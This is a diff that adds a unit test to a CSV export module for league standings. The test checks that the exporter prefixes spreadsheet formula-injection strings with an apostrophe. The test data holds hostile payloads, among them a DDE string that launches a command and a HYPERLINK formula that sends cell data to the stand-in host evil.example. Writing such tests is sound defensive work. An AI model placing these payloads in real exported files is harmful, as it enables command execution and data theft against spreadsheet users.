@@ -55,6 +55,30 @@ describe('history export as CSV', () => {
       '',
     ]);
   });
+  it("prefixes texts a spreadsheet would run as formulas with ', keeping negative numbers as numbers", () => {
+    const hostile = {
+      divisions: [{ id: 1, name: '@SUM(1+1)*cmd|" /C calc"!A0' }],
+      standings: [
+        ...[
+          '=HYPERLINK("http://evil.example/?x="&A1)',
+          '+1+1',
+          '-2+3',
+          '\t=1+1',
+          '\r=1+1',
+          'Safe = Club',
+        ].map((teamName, i) => ({ divisionId: 1, position: i + 1, teamName, played: 1, points: -3 })),
+      ],
+    };
+    expect(snapshotCsv(hostile, 'standings').split('\n').slice(1)).toEqual([
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",1,"'=HYPERLINK(""http://evil.example/?x=""&A1)",1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",2,'+1+1,1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",3,'-2+3,1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",4,'\t=1+1,1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",5,"'\r=1+1",1,,,,,,-3`,
+      `"'@SUM(1+1)*cmd|"" /C calc""!A0",6,Safe = Club,1,,,,,,-3`,
+      '',
+    ]);
+  });
   it('copes with an empty snapshot', () => {
     expect(snapshotCsv({}, 'standings')).toBe(
       'division,position,teamName,played,won,drawn,lost,framesFor,framesAgainst,points\n',
